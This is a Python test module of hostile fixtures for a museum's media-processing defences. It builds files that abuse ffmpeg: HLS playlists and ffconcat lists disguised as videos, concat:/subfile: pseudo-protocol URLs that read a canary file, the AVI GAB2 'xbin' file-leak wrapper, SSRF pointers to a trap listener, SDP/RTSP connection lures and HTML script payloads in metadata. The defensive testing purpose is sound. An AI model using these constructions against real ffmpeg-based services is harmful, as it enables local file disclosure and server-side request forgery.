"""Hostile cases for ffmpeg (threat row 6: playlists, concat lists and pseudo-protocols that
make ffmpeg read local files or open connections) and video metadata (row 11).

The museum's defence (``processing/av/probe.py``): the container is recognised from its
bytes and must be on an allow-list; ffprobe and ffmpeg are then told the demuxer (``-f``)
and may open local files only (``-protocol_whitelist file``). A playlist or list is text,
so it never reaches ffmpeg; one hidden behind a container's magic bytes is parsed by the
forced demuxer, which does not follow references.
"""

from __future__ import annotations

import struct
from collections.abc import Callable

from tests.hostile.media_bytes import SCRIPT, mp4, mp4_with_dref
from tests.hostile.model import Case, Expect, Traps


def _hls(*lines: str) -> bytes:
    return ("#EXTM3U\n" + "\n".join(lines) + "\n#EXT-X-ENDLIST\n").encode("utf-8")


def _segments(uri: str) -> bytes:
    return _hls("#EXT-X-VERSION:3", "#EXT-X-TARGETDURATION:10", "#EXTINF:10.0,", uri)


def _ts_packets(payload: bytes) -> bytes:
    """Three MPEG-TS null packets (0x47 sync every 188 bytes), then ``payload``."""
    packet = b"\x47\x1f\xff\x10" + b"\xff" * 184
    return packet * 3 + payload


def _ftyp(payload: bytes) -> bytes:
    """An MP4 ``ftyp`` box, then ``payload`` where the ``moov`` should be."""
    return struct.pack(">I4s4sI8s", 24, b"ftyp", b"isom", 512, b"isomiso2") + payload


def _ebml(payload: bytes) -> bytes:
    """A Matroska EBML header (DocType "matroska"), then ``payload``."""
    doctype = b"\x42\x82\x88matroska"
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(doctype)]) + doctype + payload


def _chunk(kind: bytes, data: bytes) -> bytes:
    return kind + struct.pack("<I", len(data)) + data + b"\x00" * (len(data) % 2)


def _list(kind: bytes, *chunks: bytes) -> bytes:
    return _chunk(b"LIST", kind + b"".join(chunks))


def _gab2_avi(playlist: bytes) -> bytes:
    """An AVI with one subtitle stream whose first chunk is a GAB2 block holding an HLS
    playlist: the wrapper of the 2017 "xbin" leak, where ffmpeg probed the embedded
    block as HLS and copied the files it listed into the output video."""
    avih = struct.pack("<14I", 40000, 0, 0, 0x10, 1, 0, 1, 0, 64, 48, 0, 0, 0, 0)
    # fccType, handler, flags, priority, language, initial frames, scale, rate, start,
    # length, buffer size, quality, sample size, frame rectangle
    strh = struct.pack(
        "<4s4sIHHIIIIIIiIhhhh", b"txts", b"\x00" * 4, 0, 0, 0, 0, 1, 25, 0, 1, 0, -1, 0, 0, 0, 0, 0
    )
    name = b"hostile\x00"
    gab2 = b"GAB2\x00" + struct.pack("<HI", 2, len(name)) + name
    gab2 += struct.pack("<HI", 4, len(playlist)) + playlist
    header = _list(b"hdrl", _chunk(b"avih", avih), _list(b"strl", _chunk(b"strh", strh)))
    movi = _list(b"movi", _chunk(b"00tx", gab2))
    body = b"AVI " + header + movi
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _sdp(traps: Traps) -> bytes:
    return (
        "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=hostile\r\n"
        f"c=IN IP4 {traps.trap_host}\r\nt=0 0\r\n"
        f"m=video {traps.trap_port} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"
    ).encode("ascii")


def _case(
    name: str,
    filename: str,
    build: Callable[[Traps], bytes],
    note: str,
    *,
    expect: Expect = "refused",
    kind: str | None = None,
) -> Case:
    return Case(6, name, filename, build, expect=expect, kind=kind, note=note)


ROW6 = [
    _case(
        "hls-file-url-canary-as-mp4",
        "clip.mp4",
        lambda t: _segments(f"file://{t.canary_path}"),
        "HLS playlist renamed .mp4 whose segment is the canary (CVE-2016-1897 style)",
        kind="video",
    ),
    _case(
        "hls-plain-path-canary-as-mkv",
        "clip.mkv",
        lambda t: _segments(t.canary_path),
        "HLS playlist renamed .mkv listing the canary as a plain absolute path",
        kind="video",
    ),
    _case(
        "hls-trap-url-as-mov",
        "clip.mov",
        lambda t: _segments(f"{t.trap_url}/seg0.ts"),
        "HLS playlist renamed .mov whose segment is on the trap listener (SSRF)",
        kind="video",
    ),
    _case(
        "hls-concat-protocol",
        "clip.mp4",
        lambda t: _segments(f"concat:{t.canary_path}|{t.canary_path}"),
        "segment URL using ffmpeg's concat: protocol on the canary",
        kind="video",
    ),
    _case(
        "hls-subfile-protocol",
        "clip.mp4",
        lambda t: _segments(f"subfile,,start,0,end,0,,:{t.canary_path}"),
        "segment URL using the subfile protocol on the canary",
        kind="video",
    ),
    _case(
        "hls-ext-x-map-txt",
        "clip.mp4",
        lambda t: _hls(
            "#EXT-X-TARGETDURATION:10",
            f'#EXT-X-MAP:URI="file://{t.canary_path}?x.mp4"',
            "#EXTINF:10.0,",
            f"{t.canary_path}#.ts",
        ),
        "extension_picky tricks: init segment and media segment disguised by ?/# suffixes",
        kind="video",
    ),
    _case(
        "hls-ext-x-key-trap",
        "clip.mp4",
        lambda t: _hls(
            "#EXT-X-TARGETDURATION:10",
            f'#EXT-X-KEY:METHOD=AES-128,URI="{t.trap_url}/key"',
            "#EXTINF:10.0,",
            "seg0.ts",
        ),
        "AES key fetched from the trap listener",
        kind="video",
    ),
    _case(
        "hls-master-variant-trap",
        "clip.m3u8",
        lambda t: (
            f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1000\n{t.trap_url}/variant.m3u8\n"
        ).encode(),
        "master playlist (by its real name) pointing at a variant on the trap listener",
        kind="video",
    ),
    _case(
        "hls-no-kind-hint",
        "playlist.m3u8",
        lambda t: _segments(f"file://{t.canary_path}"),
        "a playlist with no kind hint: no pipeline takes text",
    ),
    _case(
        "ffconcat-canary-as-mov",
        "clip.mov",
        lambda t: f"ffconcat version 1.0\nfile '{t.canary_path}'\n".encode(),
        "ffconcat list renamed .mov listing the canary",
        kind="video",
    ),
    _case(
        "ffconcat-trap-url-as-mp4",
        "clip.mp4",
        lambda t: f"ffconcat version 1.0\nfile '{t.trap_url}/a.mp4'\nduration 1\n".encode(),
        "ffconcat list listing a URL on the trap listener",
        kind="audio",
    ),
    _case(
        "ffconcat-subfile-as-mkv",
        "clip.mkv",
        lambda t: (
            f"ffconcat version 1.0\nfile 'subfile,,start,0,end,64,,:{t.canary_path}'\n".encode()
        ),
        "ffconcat with a subfile: entry (concat's safe mode is the second gate)",
        kind="video",
    ),
    _case(
        "avi-gab2-hls-canary",
        "clip.avi",
        lambda t: _gab2_avi(_segments(f"file://{t.canary_path}")),
        "AVI whose GAB2 subtitle block is an HLS playlist of the canary ('xbin' 2017 leak)",
        kind="video",
    ),
    _case(
        "avi-gab2-hls-trap",
        "clip.avi",
        lambda t: _gab2_avi(_segments(f"{t.trap_url}/x.ts")),
        "AVI/GAB2 wrapper whose playlist points at the trap listener",
        kind="video",
    ),
    _case(
        "ts-sync-bytes-then-hls",
        "clip.ts",
        lambda t: _ts_packets(_segments(f"file://{t.canary_path}")),
        "MPEG-TS sync bytes in front of a playlist: passes the sniff, the forced demuxer reads TS",
        kind="video",
    ),
    _case(
        "mp4-ftyp-then-hls",
        "clip.mp4",
        lambda t: _ftyp(_segments(f"file://{t.canary_path}")),
        "a valid ftyp box in front of a playlist: sniffed as MP4, opened with -f mov",
        kind="video",
    ),
    _case(
        "mkv-ebml-then-ffconcat",
        "clip.mkv",
        lambda t: _ebml(f"\nffconcat version 1.0\nfile '{t.canary_path}'\n".encode()),
        "an EBML header in front of an ffconcat list",
        kind="video",
    ),
    _case(
        "sdp-rtp-trap-as-mp4",
        "clip.mp4",
        _sdp,
        "SDP description renamed .mp4: ffmpeg's sdp demuxer would listen/connect to the trap",
        kind="video",
    ),
    _case(
        "rtsp-url-list-as-mov",
        "clip.mov",
        lambda t: f"rtsp://{t.trap_host}:{t.trap_port}/stream\n".encode(),
        "a bare RTSP URL as the file",
        kind="video",
    ),
    _case(
        "mov-external-dref-canary",
        "clip.mov",
        lambda t: mp4_with_dref(t.canary_path),
        "MP4 whose video track's data reference names the canary (drefs stay off)",
        expect="any",
        kind="video",
    ),
    _case(
        "mp4-metadata-pseudo-urls",
        "clip.mp4",
        lambda t: mp4(
            title=f"concat:{t.canary_path}|tee:[f=hls]{t.trap_url}",
            comment=f"subfile,,start,0,end,0,,:{t.canary_path}",
        ),
        "real MP4 whose metadata holds concat:/tee:/subfile: pseudo-URLs (never interpreted)",
        expect="any",
        kind="video",
    ),
]

ROW11_AV = [
    Case(
        row=11,
        name="mp4-title-script",
        filename="clip.mp4",
        build=lambda t: mp4(title=SCRIPT, comment=SCRIPT),
        expect="any",
        kind="video",
        note="MP4 whose title and comment are HTML: stripped from the HLS derivatives",
    ),
    Case(
        row=11,
        name="mp4-chapter-script",
        filename="clip.mp4",
        build=lambda t: mp4(chapter=SCRIPT),
        expect="any",
        kind="video",
        note="MP4 with a chapter titled with HTML",
    ),
    Case(
        row=11,
        name="html-as-mp4",
        filename="clip.mp4",
        build=lambda t: f"<!doctype html><html><body>{SCRIPT}</body></html>".encode(),
        kind="video",
        note="HTML page disguised as a video",
    ),
    Case(
        row=11,
        name="webvtt-script-captions",
        filename="captions.vtt",
        build=lambda t: f"WEBVTT\n\n00:00.000 --> 00:01.000\n{SCRIPT}\n".encode(),
        note="WebVTT with a script cue uploaded as a file: no pipeline publishes it",
    ),
]

CASES = ROW6 + ROW11_AV
